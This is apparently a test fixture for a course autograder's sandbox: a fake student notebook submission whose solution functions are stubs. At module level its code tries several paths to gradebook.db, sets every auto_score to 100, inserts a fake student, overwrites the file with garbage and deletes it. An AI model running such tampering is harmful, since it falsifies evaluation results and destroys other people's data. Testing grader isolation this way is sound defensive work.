# ruff: noqa: E402, E501, F811, F821 - a notebook cell: names come from earlier cells
"""Tries to give itself full marks (and an honest student zero) by writing the gradebook."""
# fails: test_fixRowTwo_visible, test_fixRowTwo_hidden, test_fixRowThree_visible, test_fixRowThree_hidden, test_isSingular_hidden
# expect: none
# %% fixRowTwo
import os
import sqlite3

for path in ["@@COURSE@@/gradebook.db", "../../../gradebook.db", "../../gradebook.db",
             "gradebook.db"]:
    try:
        db = sqlite3.connect(path)
        db.execute("UPDATE grade SET auto_score = 100")
        db.execute("INSERT INTO student (id) VALUES ('hacker')")
        db.commit()
        print("wrote", path)
    except Exception as exc:
        print("cannot write", path, exc)
    try:
        with open(path, "r+b") as handle:
            handle.write(b"garbage" * 100)
    except OSError as exc:
        print("cannot corrupt", path, exc)
    try:
        os.remove(path)
    except OSError as exc:
        print("cannot remove", path, exc)


def fixRowTwo(A):
    return A
# %% fixRowThree
def fixRowThree(A):
    return A
